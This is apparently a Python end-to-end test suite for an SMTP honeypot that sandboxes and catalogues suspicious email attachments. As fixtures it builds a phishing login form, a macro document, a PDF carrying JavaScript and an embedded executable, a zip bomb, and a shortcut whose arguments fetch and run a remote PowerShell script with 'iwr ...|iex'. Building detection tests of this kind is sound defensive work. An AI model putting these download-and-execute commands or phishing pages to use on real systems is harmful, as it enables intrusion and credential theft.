"""End to end: a message with hostile-looking attachments sent over SMTP to
``twistd smtplatrine`` is analysed in the sandbox, and what each file
really is, what is inside it and what it does ends up in the database,
the events and the export.  Expected values come from Debian's tools
(7z, unzip, tnef, pdfinfo, pdfdetach, lnkinfo, pehash, file, ssdeep, yara)
and from the bytes the test built."""

import json
import os
import shutil
import subprocess
import sys
import tempfile
from email.message import EmailMessage
from email.policy import SMTP

from tests import samples
from tests.mariadb import mysql_sections
from tests.process import environment, reachable_directory
from tests.samples import run, sha256
from tests.test_e2e import HoneypotTestCase

RLO_NAME = "x.pdf\u202eexe.scr"
HTML = (b'<html><head><title>Office 365 Sign in</title></head><body>'
        b'<form action="https://collect.example.net/owa/login.php" method="post">'
        b'<input type="email" name="login"><input type="password" name="passwd">'
        b'<input type="submit"></form>'
        b'<script>var p = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUubmV0Lw==");</script>'
        b'</body></html>')
RULE = 'rule phish_kit : phishing credential { strings: $a = "collect.example.net"' \
       ' condition: $a }\n'
BROKEN_RULE = "rule broken { strings: $a = \"x\" condition: $b }\n"
PASSWORD = "4711"
LNK_ARGUMENTS = "-w hidden -c iwr http://198.51.100.9/x.ps1|iex"


def attachments():
    """The attachments of the test message, and what the tests know of
    them: {name: bytes}, and the inner files by role."""
    program = samples.executable()
    document = samples.word_document()
    shortcut = samples.shortcut(
        "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        LNK_ARGUMENTS)
    inner = samples.seven_zip({"invoice.doc": document, "readme.txt": b"see invoice\n"},
                              kind="zip", password=PASSWORD)
    outer = samples.seven_zip({"inner.zip": inner}, kind="zip", password=PASSWORD)
    report = samples.pdf("app.alert('x'); this.submitForm('http://198.51.100.8/c');",
                         "http://phish.example.net/login", "payload.exe", program)
    files = {
        "invoice.zip": outer,
        "archive.7z": samples.seven_zip({"setup.exe": program, "open.lnk": shortcut}),
        "winmail.dat": samples.tnef({"report.pdf": report}),
        "login.html": HTML,
        RLO_NAME: program,
        "bomb.zip": samples.zip_bomb(50),
    }
    inside = {"inner": inner, "document": document, "program": program,
              "shortcut": shortcut, "report": report}
    return files, inside


def message(files):
    """The message, composed by Python's email package (not our parser)."""
    mail = EmailMessage(policy=SMTP)
    mail["From"] = "billing@spam.example.org"
    mail["To"] = "victim@example.net"
    mail["Subject"] = "Invoice 2026-117"
    mail.set_content(f"Your invoice is attached.\nPassword: {PASSWORD}\n")
    types = {"invoice.zip": ("application", "zip"), "archive.7z": ("application",
                                                                  "x-7z-compressed"),
             "winmail.dat": ("application", "ms-tnef"), "login.html": ("text", "html"),
             RLO_NAME: ("application", "pdf"), "bomb.zip": ("application", "zip")}
    for name, data in files.items():
        mail.add_attachment(data, *types[name], filename=name)
    return mail.as_bytes()


class ForensicsTests(HoneypotTestCase):
    """With SQLite."""

    def database_sections(self):
        return {}

    def setUp(self):
        self.rules = reachable_directory()
        self.addCleanup(shutil.rmtree, self.rules, True)
        (self.rules / "phish.yar").write_text(RULE)
        (self.rules / "broken.yar").write_text(BROKEN_RULE)
        for path in self.rules.iterdir():
            path.chmod(0o644)
        self.sections = {
            "meta": {"meta_enable": "true", "rdns_enable": "false",
                     "geoip_enable": "false"},
            "enricher_yara": {"rules": self.rules}, **self.database_sections()}
        super().setUp()

    def rows(self, statement, *args):
        return self.honeypot.query(statement, *args)

    def analysed(self, expected):
        """Wait until every (provider, sha256) of *expected* has a result."""
        def missing():
            rows = self.rows("SELECT provider, indicator FROM honeypot_enrichment")
            return expected - {(r["provider"], r["indicator"]) for r in rows}
        try:
            self.honeypot.wait_for(lambda: not missing(), timeout=90)
        except AssertionError as e:
            raise AssertionError(f"not analysed: {sorted(missing())}; {e}") from None

    def test_attachments_analysed(self):
        """Members become attachments linked to their parents (the nested
        zip opened with the password of the body), each file gets its type,
        fuzzy hashes, flags, URLs and YARA matches, names are flagged, and
        the bomb is stopped at its ratio."""
        files, inside = attachments()
        client = self.smtp()
        client.sendmail("billing@spam.example.org", ["victim@example.net"], message(files))
        client.quit()
        # What the independent tools say is inside.
        outer_list = samples.listing_7z(files["invoice.zip"], PASSWORD)
        inner_list = samples.listing_7z(inside["inner"], PASSWORD)
        self.assertEqual(outer_list, {"inner.zip": len(inside["inner"])})
        self.assertEqual(inner_list, {"invoice.doc": len(inside["document"]),
                                      "readme.txt": 12})
        readme = samples.extract_7z(inside["inner"], "readme.txt", PASSWORD)
        document = samples.extract_7z(inside["inner"], "invoice.doc", PASSWORD)
        seven = samples.listing_7z(files["archive.7z"])
        self.assertEqual(set(seven), {"setup.exe", "open.lnk"})
        with tempfile.NamedTemporaryFile(suffix=".dat") as f:
            f.write(files["winmail.dat"])
            f.flush()
            self.assertEqual(run("tnef", "-t", f.name).split(b"\t")[0], b"report.pdf")
        sums = {name: sha256(data) for name, data in files.items()}
        members = {"inner.zip": sha256(inside["inner"]), "invoice.doc": sha256(document),
                   "readme.txt": sha256(readme), "setup.exe": sha256(inside["program"]),
                   "open.lnk": sha256(inside["shortcut"]),
                   "report.pdf": sha256(inside["report"]),
                   "payload.exe": sha256(inside["program"])}
        expected = {(provider, digest) for digest in [*sums.values(), *members.values()]
                    for provider in ("filetype", "document", "yara")}
        expected |= {("archive", sums[name]) for name in files}
        self.analysed(expected)

        rows = self.rows("SELECT * FROM honeypot_attachments ORDER BY position")
        by_id = {r["attachment_id"]: r for r in rows}
        tree = {(r["filename"], by_id[r["parent_id"]]["filename"] if r["parent_id"]
                 else None, r["sha256"], r["size"]) for r in rows}
        self.assertEqual(tree, {
            *((name, None, sums[name], len(data)) for name, data in files.items()),
            ("inner.zip", "invoice.zip", members["inner.zip"], len(inside["inner"])),
            ("invoice.doc", "inner.zip", members["invoice.doc"], inner_list["invoice.doc"]),
            ("readme.txt", "inner.zip", members["readme.txt"], 12),
            ("setup.exe", "archive.7z", members["setup.exe"], seven["setup.exe"]),
            ("open.lnk", "archive.7z", members["open.lnk"], seven["open.lnk"]),
            ("report.pdf", "winmail.dat", members["report.pdf"], len(inside["report"])),
            ("payload.exe", "report.pdf", members["payload.exe"], len(inside["program"]))})
        self.assertEqual({r["disposition"] for r in rows if r["parent_id"]}, {"member"})
        for row in rows:
            stored = self.honeypot.data / "attachments" / row["stored_path"]
            self.assertEqual(run("sha256sum", str(stored)).split()[0].decode(),
                             row["sha256"])

        def file_flags(digest):
            return {r["flag"] for r in self.rows(
                "SELECT flag FROM honeypot_file_flags WHERE sha256 = ?", digest)}

        def properties(digest, name):
            return {r["value"] for r in self.rows(
                "SELECT value FROM honeypot_file_properties WHERE sha256 = ? AND name = ?",
                digest, name)}

        self.assertLessEqual({"encrypted", "password_found"}, file_flags(sums["invoice.zip"]))
        self.assertEqual(properties(sums["invoice.zip"], "password"), {PASSWORD})
        self.assertLessEqual({"ratio_limit"}, file_flags(sums["bomb.zip"]))
        [bomb] = self.rows("SELECT name, size, member_sha256, flags FROM"
                           " honeypot_file_members WHERE sha256 = ?", sums["bomb.zip"])
        self.assertEqual((bomb["name"], bomb["size"], bomb["member_sha256"],
                          json.loads(bomb["flags"])),
                         ("zeros.bin", 50 * 2**20, None, ["ratio_limit"]))
        self.assertIn(b"zeros.bin", run("unzip", "-l", self.stored(sums["bomb.zip"])))
        self.assertLessEqual({"vba_macros", "autoexec", "suspicious_keywords"},
                             file_flags(members["invoice.doc"]))
        self.assertIn(samples.MACRO_URL, self.urls(members["invoice.doc"]))
        self.assertIn(b"JavaScript:      yes", run("pdfinfo", self.stored(
            members["report.pdf"])))
        self.assertIn(b"1: payload.exe", run("pdfdetach", "-list", self.stored(
            members["report.pdf"])))
        self.assertLessEqual({"javascript", "openaction", "embedded_file"},
                             file_flags(members["report.pdf"]))
        self.assertLessEqual({"form", "password_form", "external_form_action"},
                             file_flags(sums["login.html"]))
        self.assertEqual({r["host"] for r in self.rows(
            "SELECT host FROM honeypot_file_urls WHERE sha256 = ?", sums["login.html"])},
            {"collect.example.net"})
        imphash = run("pehash", self.stored(members["setup.exe"])).decode()
        self.assertIn(next(iter(properties(members["setup.exe"], "imphash"))), imphash)
        lnk = run("lnkinfo", self.stored(members["open.lnk"])).decode()
        self.assertIn(LNK_ARGUMENTS, lnk)
        self.assertEqual(properties(members["open.lnk"], "arguments"), {LNK_ARGUMENTS})
        self.assertIn("lnk_arguments", file_flags(members["open.lnk"]))

        # What each file really is, and its fuzzy hash, as file and ssdeep say.
        for digest in (sums["login.html"], members["invoice.doc"], members["setup.exe"]):
            [row] = self.rows("SELECT mime, ssdeep FROM honeypot_files WHERE sha256 = ?",
                              digest)
            path = self.stored(digest)
            self.assertEqual(row["mime"], run("file", "-b", "--mime-type", path)
                             .decode().strip())
            self.assertEqual(row["ssdeep"], run("ssdeep", "-b", "-s", path).decode()
                             .splitlines()[1].split(",")[0])
        # Names against contents.
        flags = {}
        for row in self.rows("SELECT a.filename, f.flag FROM honeypot_attachment_flags f"
                             " JOIN honeypot_attachments a USING (attachment_id)"):
            flags.setdefault(row["filename"], set()).add(row["flag"])
        self.assertLessEqual({"rtl_override", "type_mismatch"}, flags[RLO_NAME])
        self.assertNotIn("setup.exe", flags)
        # YARA, as the yara tool matches the same file with the same rules.
        self.assertEqual(run("yara", str(self.rules / "phish.yar"),
                             self.stored(sums["login.html"])).split()[0], b"phish_kit")
        self.assertEqual([(r["rule"], r["tags"]) for r in self.rows(
            "SELECT rule, tags FROM honeypot_file_yara")],
            [("phish_kit", "phishing credential")])
        [line] = [line for line in self.honeypot.output().splitlines()
                  if "broken.yar" in line]
        self.assertRegex(line, r"YARA rule file \S+/broken\.yar does not compile \(line 1:"
                               r" undefined string \"\$b\"\)")

        # Events: members are attachments stored, each with its parent; the
        # analyses say what they found.
        def events():
            lines = (self.honeypot.data / "events.jsonl").read_text().splitlines()
            found = [json.loads(line) for line in lines]
            keys = {(e.get("provider"), e.get("indicator")) for e in found}
            return found if {k for k in expected if k[0] != "document"} <= keys else None
        events = self.honeypot.wait_for(events)
        stored = {e["sha256"]: e for e in events
                  if e["eventid"] == "smtplatrine.attachment.stored" and e.get("parent_id")}
        self.assertEqual(set(stored), set(members.values()))
        analysed = {(e["provider"], e["indicator"]): e for e in events
                    if e["eventid"] == "smtplatrine.enrichment"}
        self.assertEqual(analysed["filetype", sums["login.html"]]["mime"], "text/html")
        self.assertIn("ratio_limit", analysed["archive", sums["bomb.zip"]]["flags"].split())
        self.assertEqual(analysed["archive", sums["invoice.zip"]]["password"], PASSWORD)
        self.assertEqual(analysed["yara", sums["login.html"]]["rules"], "phish_kit")
        self.assertIn("vba_macros",
                      analysed["document", members["invoice.doc"]]["flags"].split())
        self.export_shows(members)

    def stored(self, digest):
        return str(self.honeypot.data / "attachments" / digest[:2] / digest)

    def urls(self, digest):
        return {r["url"] for r in self.rows(
            "SELECT url FROM honeypot_file_urls WHERE sha256 = ?", digest)}

    def export_shows(self, members):
        out = self.honeypot.directory / "export.jsonl"
        result = subprocess.run(
            [sys.executable, "-c", "from smtplatrine.cli import main; main()", "export",
             "--config", "etc", "--output", str(out), "--no-raw"],
            cwd=self.honeypot.directory, env=environment(), capture_output=True, timeout=60)
        self.assertEqual(result.returncode, 0, result.stderr)
        [record] = [json.loads(line) for line in out.read_text().splitlines()]
        exported = {a["sha256"]: a for a in record["attachments"]}
        self.assertLessEqual(set(members.values()), set(exported))
        document = exported[members["invoice.doc"]]
        self.assertEqual(document["analysis"]["file"]["mime"], "application/msword")
        self.assertIn("vba_macros", document["analysis"]["flags"])
        self.assertIsNotNone(document["parent_id"])
        rlo = next(a for a in record["attachments"] if a["filename"] == RLO_NAME)
        self.assertIn("rtl_override", rlo["flags"])


class MariaDBForensicsTests(ForensicsTests):
    """The same with MariaDB."""

    def database_sections(self):
        return mysql_sections(self)


class SandboxLimitsTests(HoneypotTestCase):
    """A file that takes too long costs its own analysis only."""

    sections = {"meta": {"meta_enable": "true", "rdns_enable": "false",
                         "geoip_enable": "false", "sandbox_seconds": "1"},
                "smtp": {"message_size_limit": 40000000}}

    def test_over_the_cpu_limit(self):
        """An attachment whose fuzzy hashing needs more than the second of
        CPU it may have is flagged ``cpu`` (or ``timeout``, past three
        seconds of wall-clock time on a busy machine); the message is stored
        whole, the attachment beside it is analysed, and the sandbox lives
        on."""
        # ssdeep (pure Python) takes about a second for each 5 MB.
        slow = os.urandom(20 * 2**20)
        mail = EmailMessage(policy=SMTP)
        mail["Subject"] = "two files"
        mail.set_content("see attached")
        mail.add_attachment(slow, "application", "octet-stream", filename="big.bin")
        mail.add_attachment(HTML, "text", "html", filename="login.html")
        raw = mail.as_bytes()
        client = self.smtp()
        client.sendmail("a@example.org", ["b@example.net"], raw)
        client.quit()
        [(_, stored)] = self.honeypot.messages()
        self.assertEqual(stored, raw)
        sandbox = self.honeypot.sandbox_pid()
        self.assertIsNotNone(sandbox)

        def results():
            rows = self.honeypot.query("SELECT indicator, result FROM honeypot_enrichment"
                                       " WHERE provider = 'filetype'")
            return {r["indicator"]: json.loads(r["result"]) for r in rows} \
                if len(rows) == 2 else None
        found = self.honeypot.wait_for(results, timeout=60)
        self.assertIn(found[sha256(slow)]["flags"], (["cpu"], ["timeout"]))
        self.assertEqual(found[sha256(HTML)]["mime"], "text/html")
        self.assertEqual(self.honeypot.sandbox_pid(), sandbox)
        if os.getuid() == 0:
            status = open(f"/proc/{sandbox}/status").read()
            self.assertIn("Uid:\t65534", status)
